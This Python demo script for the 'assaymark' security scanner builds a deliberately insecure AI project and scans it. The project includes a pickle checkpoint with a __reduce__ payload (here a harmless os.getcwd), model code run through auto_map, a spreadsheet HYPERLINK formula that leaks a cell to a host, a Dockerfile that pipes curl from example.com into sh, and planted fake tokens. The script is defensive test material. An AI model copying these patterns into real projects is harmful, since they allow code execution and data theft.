"""A small AI project as one meets them, with what is wrong with it, and what `assay scan` says; then a model's way to production.

Everything is written with the standard library into a temporary folder. The "malicious" checkpoint calls
`os.getcwd`, which is harmless; nothing in here ever loads it.
"""

import json
import os
import pickle
import struct
import subprocess
import sys
import tempfile
from pathlib import Path

import registry

ASSAY = [sys.executable, "-m", "assaymark"]


class Payload:
    """Stands for an attacker's object: unpickling it would call a function of the os module."""

    def __reduce__(self) -> tuple[object, tuple[()]]:
        return os.getcwd, ()


def main() -> int:
    """Build, scan, and say where the reports are."""
    quiet = "--quiet" in sys.argv
    top = Path(tempfile.mkdtemp(prefix="assaymark-demo-"))
    project, reports = top / "support-bot", top / "reports"
    reports.mkdir()
    build(project)
    home = ["--home", str(top / "home")]
    key = str(reports / "demo.key")
    subprocess.run([*ASSAY, *home, "key", "create", key], check=True, stdout=subprocess.DEVNULL)
    evidence, html = reports / "evidence.json", reports / "report.html"
    show = ["--quiet"] if quiet else []
    scan = [
        *ASSAY, *home, "scan", str(project), "--no-config", *show,
        "-o", f"html:{html}", "-o", f"sarif:{reports / 'report.sarif'}",
        "--evidence", str(evidence), "--key", key,
    ]  # fmt: skip
    code = subprocess.run(scan, check=False).returncode
    public = str(reports / "demo.pub")
    verified = subprocess.run([*ASSAY, "evidence", "verify", str(evidence), "--key", public, str(project)], check=False)
    print(f"\nThe project    {project}")
    print(f"HTML report    {html}")
    print(f"Evidence       {evidence}  (signed; the line above verified it)")
    print(f"Try            assay explain MDL001; assay scan {project} --format json")
    if code != 1 or verified.returncode != 0:
        return 1
    registry.play(registry.Scene(top, quiet=quiet))
    return 0


def build(project: Path) -> None:
    """Write the project."""
    for folder in ("model", "checkpoints", "data", "notebooks"):
        (project / folder).mkdir(parents=True)
    model(project / "model")
    checkpoint = {"epoch": 3, "loss": 0.41, "optimizer": Payload()}
    (project / "checkpoints" / "epoch-3.ckpt").write_bytes(pickle.dumps(checkpoint, protocol=4))
    data(project / "data")
    code(project)
    notebook(project / "notebooks" / "train.ipynb")


def model(folder: Path) -> None:
    """A fine-tuned model as it comes from a hub: safetensors, a config that names code, a tokenizer."""
    config = {
        "architectures": ["SupportBotForCausalLM"],
        "model_type": "support-bot",
        "auto_map": {"AutoModelForCausalLM": "modeling_support_bot.SupportBotForCausalLM"},
        "torch_dtype": "float32",
        "vocab_size": 8,
    }
    (folder / "config.json").write_text(json.dumps(config, indent=2))
    (folder / "modeling_support_bot.py").write_text(
        "import subprocess\n\n\nclass SupportBotForCausalLM:\n"
        "    def __init__(self, config):\n"
        '        self.version = subprocess.check_output(["uname", "-r"])\n'
    )
    (folder / "tokenizer_config.json").write_text(
        json.dumps({"chat_template": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"})
    )
    weights = struct.pack("<32f", *(i / 32 for i in range(32)))
    header = json.dumps(
        {
            "__metadata__": {"format": "pt"},
            "lm_head.weight": {"dtype": "F32", "shape": [8, 4], "data_offsets": [0, 128]},
        }
    ).encode()
    header += b" " * (-len(header) % 8)
    (folder / "model.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + weights)
    (folder / "README.md").write_text("---\nbase_model: example/base\nlicense: apache-2.0\n---\n# Support bot\n")


def data(folder: Path) -> None:
    """A table with a formula in it, and a file that is not what its name says."""
    (folder / "tickets.csv").write_text(
        "id,text,label\n1,printer on fire,hardware\n2,-5 degrees in the office,facility\n"
        '3,"=HYPERLINK(""http://127.0.0.1/?x=""&A2,""open"")",hardware\n'
    )
    (folder / "labels.json").write_bytes(pickle.dumps({"hardware": 0, "facility": 1}, protocol=4))


def code(project: Path) -> None:
    """Requirements, a Dockerfile and a workflow."""
    (project / "requirements.txt").write_text("torch>=2.2\nnumpy==2.2.6\n--extra-index-url https://pypi.example.com\n")
    (project / "Dockerfile").write_text(
        "FROM python:latest\n"
        "ENV HF_TOKEN=hf_" + "qWeRtYuIoPaSdFgHjKlZxCvBnMqWeRtYuI" + "\n"
        "RUN curl -sSL https://example.com/install.sh | sh\n"
        'COPY . /app\nCMD ["python", "/app/serve.py"]\n'
    )
    workflow = project / ".github" / "workflows" / "train.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text(
        "on: push\njobs:\n  train:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@main\n      - run: python train.py\n"
    )


def notebook(path: Path) -> None:
    """A notebook with a key in a cell."""
    source = ["import os\n", 'os.environ["AWS_SECRET_ACCESS_KEY"] = "wJalrXUtnFEMIK7MDENGbPxRfiCYq8Zt2LpVd0sA"\n']
    cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [], "source": source}
    path.write_text(json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1))


if __name__ == "__main__":
    sys.exit(main())
